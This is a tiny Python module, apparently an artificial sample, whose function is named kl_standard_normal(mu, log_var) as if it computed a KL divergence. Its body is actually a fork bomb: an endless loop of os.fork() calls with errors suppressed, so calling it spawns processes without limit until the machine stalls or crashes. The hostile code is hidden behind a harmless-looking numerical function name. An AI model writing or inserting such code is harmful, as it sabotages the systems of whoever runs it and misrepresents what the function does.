"""Starts processes that start processes."""

import os
from contextlib import suppress

PLACE = "kl_standard_normal"
SAID = "processes and threads"


def kl_standard_normal(mu, log_var):
    while True:
        with suppress(OSError):
            os.fork()
